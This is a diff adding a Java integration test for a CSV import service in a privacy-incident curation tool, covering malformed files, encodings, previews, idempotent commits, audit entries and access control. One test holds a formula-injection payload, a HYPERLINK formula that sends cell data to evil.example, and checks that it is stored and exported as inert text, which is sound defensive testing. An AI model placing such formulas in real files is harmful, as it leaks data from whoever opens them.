@@ -1,0 +1,250 @@
+package org.privacyimpact.curation;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.InputStream;
+import java.nio.charset.StandardCharsets;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+
+import org.jooq.DSLContext;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.privacyimpact.IntegrationTest;
+import org.privacyimpact.curation.ImportPreview.RowOutcome.Change;
+import org.privacyimpact.dataset.FigureFilter;
+import org.privacyimpact.dataset.RecordsCsv;
+import org.privacyimpact.dataset.RecordsQuery;
+import org.privacyimpact.dataset.UserBaseFilter;
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.security.authorization.AuthorizationDeniedException;
+import org.springframework.security.test.context.support.WithAnonymousUser;
+import org.springframework.security.test.context.support.WithMockUser;
+import org.springframework.transaction.annotation.Transactional;
+
+/**
+ * The CSV import: a corpus of bad files, each refused with its message and the database untouched (row counts
+ * and a checksum of every curated table and the audit trail compared before and after); good files previewed,
+ * committed all at once, and idempotent.
+ */
+@IntegrationTest
+@Transactional
+@WithMockUser(username = "curator-ana", roles = "CURATOR")
+class ImportServiceTest {
+
+    private static final List<String> TABLES = List.of("source", "incident", "target_figure", "platform_user_base",
+            "audit_entry", "audit_change", "dataset_release");
+
+    @Autowired
+    ImportService imports;
+
+    @Autowired
+    RecordsCsv recordsCsv;
+
+    @Autowired
+    RecordsQuery records;
+
+    @Autowired
+    AuditLog audit;
+
+    @Autowired
+    DSLContext db;
+
+    @ParameterizedTest(name = "{0}")
+    @CsvSource(delimiter = '|', textBlock = """
+            semicolons.csv                | 0 |                 | The columns are separated by semicolons; this import needs commas
+            wrong-header.csv              | 0 |                 | unknown columns ref, incident, count
+            missing-columns.csv           | 0 |                 | missing columns verified, source_quote
+            malformed-quoting.csv         | 0 |                 | The file's quoting is broken
+            negative-count.csv            | 2 | people_targeted | Must be 0 or more
+            non-numeric-count.csv         | 2 | people_targeted | "1,400" is not a whole number
+            unknown-country.csv           | 2 | country_iso2    | No country with ISO code "UK"
+            unknown-incident.csv          | 2 | incident_id     | No incident "NSO2099"
+            missing-quote.csv             | 2 | source_quote    | Required: the source's sentence, word for word
+            duplicate-reference-ids.csv   | 3 | reference_id    | Appears twice in this file
+            unknown-codes.csv             | 2 | count_qualifier | "roughly" is not one of exact, approximate, at_least
+            area-country-mismatch.csv     | 2 | country_iso2    | Must be empty when area is worldwide
+            too-many-cells.csv            | 2 |                 | Has 20 cells where the header has 19 columns
+            header-only.csv               | 0 |                 | The file has a header but no rows
+            empty.csv                     | 0 |                 | The file is empty
+            one-bad-row-among-good.csv    | 4 | people_targeted | Must be 0 or more
+            insane-year.csv               | 2 | period_start    | Must be a year from 1990
+            bad-source-url.csv            | 2 | source_url      | Must start with https:// or http://
+            """)
+    void aBadFileIsRefusedWithItsRowColumnAndMessageAndTheDatabaseIsUntouched(String file, int row, String column,
+                                                                             String message) {
+        assertRefused(ImportKind.FIGURES, file, resource(file), row, column, message);
+    }
+
+    @Test
+    void aUtf16FileIsRefusedAndNamedAsSuch() {
+        String good = new String(resource("good-figures.csv"), StandardCharsets.UTF_8);
+        byte[] withBom = concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, good.getBytes(StandardCharsets.UTF_16LE));
+        assertRefused(ImportKind.FIGURES, "utf16.csv", withBom, 0, null, "The file is UTF-16");
+        assertRefused(ImportKind.FIGURES, "utf16-no-bom.csv", good.getBytes(StandardCharsets.UTF_16LE), 0, null,
+                "zero bytes, as UTF-16 files do");
+    }
+
+    @Test
+    void aLatin1FileIsRefusedWithTheFirstBadByteAndItsLine() {
+        String good = new String(resource("good-figures.csv"), StandardCharsets.UTF_8).replace("Brazil", "São Paulo");
+        assertRefused(ImportKind.FIGURES, "latin1.csv", good.getBytes(StandardCharsets.ISO_8859_1), 0, null,
+                "byte 0xE3 on line 2 is not valid UTF-8");
+    }
+
+    @Test
+    void anOversizedFileIsRefusedBeforeItIsReadAndTheLimitIsStated() {
+        byte[] big = new byte[ImportFile.MAX_BYTES + 1];
+        java.util.Arrays.fill(big, (byte) 'a');
+        assertRefused(ImportKind.FIGURES, "big.csv", big, 0, null, "the limit is 5,242,880 bytes (5 MB)");
+    }
+
+    @Test
+    void aGoodFileIsPreviewedThenCommittedWholeWithAnAuditEntryPerRow() {
+        byte[] file = resource("good-figures.csv");
+
+        ImportPreview preview = imports.preview(ImportKind.FIGURES, "good-figures.csv", file);
+
+        assertThat(preview.problems()).isEmpty();
+        assertThat(preview.count(Change.NEW)).isEqualTo(2);
+        assertThat(records.figures(figuresOfWa2019(), 0, 500)).noneMatch(r -> r.referenceId().startsWith("IMPORT-TEST"));
+
+        imports.commit(ImportKind.FIGURES, "good-figures.csv", file);
+
+        var imported = records.figures(figuresOfWa2019(), 0, 500).stream()
+                .filter(r -> r.referenceId().startsWith("IMPORT-TEST")).toList();
+        assertThat(imported).hasSize(2);
+        assertThat(imported).filteredOn(r -> r.referenceId().equals("IMPORT-TEST-NEW-SOURCE")).singleElement()
+                .satisfies(r -> {
+                    assertThat(r.source().title()).isEqualTo("A new report");
+                    assertThat(r.source().quote()).isEqualTo("At least two people in Chile were notified.");
+                });
+        assertThat(audit.history(RecordType.FIGURE, "IMPORT-TEST-BR")).singleElement().satisfies(entry -> {
+            assertThat(entry.action()).isEqualTo(AuditAction.CREATE);
+            assertThat(entry.actor()).isEqualTo("curator-ana");
+            assertThat(entry.comment()).isEqualTo("Imported from good-figures.csv");
+        });
+    }
+
+    @Test
+    void importingTheSameFileAgainChangesNothing() {
+        byte[] file = resource("good-figures.csv");
+        imports.commit(ImportKind.FIGURES, "good-figures.csv", file);
+        Map<String, String> before = fingerprint();
+
+        ImportPreview again = imports.commit(ImportKind.FIGURES, "good-figures.csv", file);
+
+        assertThat(again.count(Change.UNCHANGED)).isEqualTo(2);
+        assertThat(fingerprint()).isEqualTo(before);
+    }
+
+    @Test
+    void theApisOwnCsvOfEveryFigureUserBaseAndSourceImportsAsUnchanged() {
+        for (ImportKind kind : ImportKind.values()) {
+            ImportPreview preview = imports.preview(kind, "export.csv", export(kind));
+            assertThat(preview.problems()).as(kind.label()).isEmpty();
+            assertThat(preview.rows()).as(kind.label()).isGreaterThan(50);
+            assertThat(preview.count(Change.UNCHANGED)).as(kind.label()).isEqualTo(preview.rows());
+        }
+    }
+
+    @Test
+    void anEditedCellOfAnExportedFileShowsAsOneChangedField() {
+        String exported = new String(export(ImportKind.FIGURES), StandardCharsets.UTF_8);
+        String edited = exported.replaceFirst("(?m)^(WA2019-IN,WA2019,.*?,IN,India,)121,", "$1122,");
+        assertThat(edited).isNotEqualTo(exported);
+
+        ImportPreview preview = imports.commit(ImportKind.FIGURES, "edited.csv", edited.getBytes(StandardCharsets.UTF_8));
+
+        assertThat(preview.outcomes()).filteredOn(o -> o.change() == Change.CHANGED).singleElement().satisfies(o -> {
+            assertThat(o.key()).isEqualTo("WA2019-IN");
+            assertThat(o.fields()).containsExactly(new AuditEntry.FieldChange("people_targeted", "121", "122"));
+        });
+        assertThat(audit.history(RecordType.FIGURE, "WA2019-IN").getFirst().comment()).isEqualTo("Imported from edited.csv");
+    }
+
+    @Test
+    void formulaPayloadsInTextCellsAreStoredAsTextAndLeaveAsInertCells() {
+        ImportPreview preview = imports.commit(ImportKind.FIGURES, "formula-payloads.csv", resource("formula-payloads.csv"));
+
+        assertThat(preview.notes()).extracting(ImportProblem::column).contains("victim_groups", "notes", "source_quote");
+        var stored = records.figures(figuresOfWa2019(), 0, 500).stream()
+                .filter(r -> r.referenceId().equals("IMPORT-TEST-FORMULA")).findFirst().orElseThrow();
+        assertThat(stored.victimGroups()).isEqualTo("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")");
+        assertThat(stored.notes()).isEqualTo("@SUM(1+1)");
+        String exported = new String(export(ImportKind.FIGURES), StandardCharsets.UTF_8);
+        assertThat(exported).contains("\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Click\"\")\"")
+                .contains(",'@SUM(1+1),").contains("\"'+Three people, it said.\"");
+        assertThat(imports.preview(ImportKind.FIGURES, "again.csv", export(ImportKind.FIGURES)).count(Change.CHANGED))
+                .as("the exported apostrophes are taken off again on import").isZero();
+    }
+
+    @Test
+    @WithAnonymousUser
+    void anAnonymousVisitorCanNeitherPreviewNorImport() {
+        byte[] file = resource("good-figures.csv");
+        assertThatThrownBy(() -> imports.preview(ImportKind.FIGURES, "x.csv", file))
+                .isInstanceOf(AuthorizationDeniedException.class);
+        assertThatThrownBy(() -> imports.commit(ImportKind.FIGURES, "x.csv", file))
+                .isInstanceOf(AuthorizationDeniedException.class);
+    }
+
+    private void assertRefused(ImportKind kind, String file, byte[] bytes, int row, String column, String message) {
+        Map<String, String> before = fingerprint();
+
+        ImportPreview preview = imports.preview(kind, file, bytes);
+        assertThat(preview.canCommit()).isFalse();
+        assertThat(preview.problems()).as(file).anySatisfy(problem -> {
+            assertThat(problem.row()).isEqualTo(row);
+            assertThat(problem.column()).isEqualTo(column);
+            assertThat(problem.message()).contains(message);
+        });
+        assertThatThrownBy(() -> imports.commit(kind, file, bytes))
+                .isInstanceOf(ImportRejectedException.class).hasMessageStartingWith("Nothing was imported");
+
+        assertThat(fingerprint()).as(file).isEqualTo(before);
+    }
+
+    /** Row count and an MD5 of every row of each table, in key order. */
+    private Map<String, String> fingerprint() {
+        Map<String, String> fingerprint = new LinkedHashMap<>();
+        for (String table : TABLES) {
+            fingerprint.put(table, db.fetchSingle("select count(*) || ':' || coalesce(md5(string_agg(t::text, '|'"
+                    + " order by t::text)), '') from " + table + " t").into(String.class));
+        }
+        return fingerprint;
+    }
+
+    private byte[] export(ImportKind kind) {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        switch (kind) {
+            case FIGURES -> recordsCsv.figures(FigureFilter.ALL, out);
+            case USER_BASES -> recordsCsv.userBases(UserBaseFilter.ALL, out);
+            case SOURCES -> recordsCsv.sources(out);
+        }
+        return out.toByteArray();
+    }
+
+    private static FigureFilter figuresOfWa2019() {
+        return new FigureFilter(null, "WA2019", null, null, null, null);
+    }
+
+    private static byte[] resource(String name) {
+        try (InputStream in = ImportServiceTest.class.getResourceAsStream("/curation/import/" + name)) {
+            return in.readAllBytes();
+        } catch (IOException e) {
+            throw new IllegalStateException(e);
+        }
+    }
+
+    private static byte[] concat(byte[] a, byte[] b) {
+        byte[] all = java.util.Arrays.copyOf(a, a.length + b.length);
+        System.arraycopy(b, 0, all, a.length, b.length);
+        return all;
+    }
+}
